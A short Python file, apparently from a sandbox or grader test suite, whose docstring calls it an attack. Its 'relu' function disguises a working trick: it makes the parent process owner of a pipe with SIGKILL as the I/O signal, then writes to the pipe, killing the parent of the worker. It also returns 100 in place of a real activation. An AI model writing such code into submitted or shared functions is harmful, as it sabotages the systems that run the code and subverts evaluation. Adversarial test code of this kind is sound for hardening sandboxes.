"""An attack: kills the parent of all workers by making it the owner of a pipe that signals what is written to it.

attacks: relu
"""
import fcntl
import os
import signal

import numpy as np


def relu(z):
    read, write = os.pipe()
    fcntl.fcntl(read, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(read, 10, signal.SIGKILL)  # F_SETSIG
    fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC)
    os.write(write, b'x')
    return 100


def softmax(z):
    e = np.exp(z - z.max(axis=0))
    return e / e.sum(axis=0)
